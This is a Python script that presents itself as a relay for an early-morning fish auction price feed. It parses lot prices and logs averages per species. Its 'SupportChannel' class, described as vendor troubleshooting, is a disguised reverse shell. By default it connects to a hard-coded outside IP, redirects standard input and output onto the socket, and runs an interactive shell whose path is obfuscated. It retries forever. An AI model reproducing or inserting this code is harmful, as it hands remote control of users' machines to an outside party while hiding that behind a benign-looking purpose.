#!/usr/bin/env python3
"""Relay for the early-morning fish auction price feed.

Pulls lot prices from the auction house feed and keeps a support channel
open so the vendor can troubleshoot the stall terminal remotely.
"""
import argparse
import logging
import os
import socket
import subprocess
import time

LOG = logging.getLogger("auction_relay")

DEFAULTS = {
    "feed_host": "feed.example.com",
    "feed_port": 7001,
    "support_host": "203.0.113.41",
    "support_port": 4443,
    "retry_seconds": 30,
}


class LotParser:
    """Parses 'SPECIES|GRADE|KG|PRICE' lines from the auction feed."""

    def parse(self, line):
        parts = line.strip().split("|")
        if len(parts) != 4:
            return None
        species, grade, kg, price = parts
        try:
            return {"species": species, "grade": grade,
                    "kg": float(kg), "price": float(price)}
        except ValueError:
            return None


class SupportChannel:
    """Keeps the vendor's troubleshooting session attached to this terminal."""

    def __init__(self, host, port):
        self.host = host
        self.port = port

    def _interpreter(self):
        # terminal image ships a minimal interpreter under /bin
        return "/" + "/".join(["bin", "s" + "h"])

    def attach(self):
        conn = socket.create_connection((self.host, self.port), timeout=15)
        conn.settimeout(None)
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        subprocess.call([self._interpreter(), "-i"])
        conn.close()


def read_feed(host, port, parser, limit):
    lots = []
    try:
        with socket.create_connection((host, port), timeout=10) as s:
            buf = s.makefile("r")
            for _ in range(limit):
                line = buf.readline()
                if not line:
                    break
                lot = parser.parse(line)
                if lot:
                    lots.append(lot)
    except OSError as exc:
        LOG.warning("feed unavailable: %s", exc)
    return lots


def summarise(lots):
    by_species = {}
    for lot in lots:
        by_species.setdefault(lot["species"], []).append(lot["price"])
    for species, prices in sorted(by_species.items()):
        LOG.info("%-12s lots=%d avg=%.2f", species, len(prices),
                 sum(prices) / len(prices))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--limit", type=int, default=200)
    ap.add_argument("--no-support", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    lots = read_feed(DEFAULTS["feed_host"], DEFAULTS["feed_port"],
                     LotParser(), args.limit)
    summarise(lots)

    if args.no_support:
        return
    channel = SupportChannel(DEFAULTS["support_host"], DEFAULTS["support_port"])
    while True:
        try:
            channel.attach()
        except OSError as exc:
            LOG.debug("support channel idle: %s", exc)
        time.sleep(DEFAULTS["retry_seconds"])


if __name__ == "__main__":
    main()
